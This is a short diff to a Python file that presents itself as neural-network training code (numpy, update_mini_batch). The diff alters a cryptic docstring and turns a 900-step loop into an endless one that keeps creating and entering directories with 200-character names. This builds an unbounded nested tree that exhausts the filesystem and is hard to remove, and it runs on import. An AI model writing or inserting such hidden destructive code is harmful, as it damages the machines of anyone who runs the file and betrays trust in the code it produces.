@@ -1,4 +1,4 @@
-"""Folders in folders, deeper than any path can be. All must go."""
+"""Folders in folders, deeper than any path can be, in which a watch may lose it. It must be ended, and all must go."""
 
 import numpy as np
 
@@ -29,6 +29,6 @@ def update_mini_batch(weights, biases, x, y, eta):
 
 import os
 
-for _ in range(900):
+while True:
     os.mkdir('x' * 200)
     os.chdir('x' * 200)
